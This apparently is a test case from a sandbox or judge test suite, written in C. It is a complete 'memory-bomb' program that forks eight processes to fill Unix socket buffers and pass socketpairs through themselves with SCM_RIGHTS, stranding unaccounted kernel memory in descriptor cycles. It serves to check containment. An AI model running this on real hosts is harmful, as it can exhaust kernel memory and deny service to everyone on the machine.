// crime: keeps memory in the buffers of sockets, and sockets in flight within each other, in circles
// row: memory-bomb
// limits: cpu 15 s, wall 30 s, memory 32 MiB
// allowed: MLE RTE AC TLE
// prints: anything
// remains: no memory of the kernel's
// except trusted: without a group, buffers of sockets are nobody's memory
#define _GNU_SOURCE
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char block[1 << 16];

static void send_descriptors(int through, int *descriptors) {
    char space[CMSG_SPACE(2 * sizeof(int))];
    struct iovec data = {block, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(2 * sizeof(int));
    memcpy(CMSG_DATA(head), descriptors, 2 * sizeof(int));
    sendmsg(through, &message, MSG_DONTWAIT);
}

int main(void) {
    for (int process = 0; process < 8; process++) {
        if (fork() == 0) {
            for (int round = 0; round < 20000; round++) {
                int ends[2];
                if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0) break;
                int size = 1 << 22;
                setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
                while (send(ends[0], block, sizeof block, MSG_DONTWAIT) > 0) {
                }
                send_descriptors(ends[0], ends);
                send_descriptors(ends[1], ends);
                close(ends[0]);
                close(ends[1]);
            }
            _exit(0);
        }
    }
    while (wait(0) > 0) {
    }
}
